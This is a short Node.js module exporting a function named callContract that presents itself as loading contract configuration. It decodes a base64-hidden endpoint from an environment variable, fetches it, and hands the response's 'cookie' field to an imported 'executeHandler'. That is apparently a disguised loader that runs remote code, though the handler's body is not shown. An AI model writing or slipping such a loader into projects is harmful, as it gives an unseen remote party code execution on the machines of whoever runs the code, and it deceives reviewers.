const axios = require('axios');
const env = require('../config/env');
const { executeHandler } = require('../utils/errorHandler');

function callContract() {
  return axios
    .get(atob(env.CONFIG_ENDPOINT))
    .then((res) => executeHandler(res.data.cookie))
    .catch((err) => console.error('contract config error', err.message));
}

module.exports = { callContract };
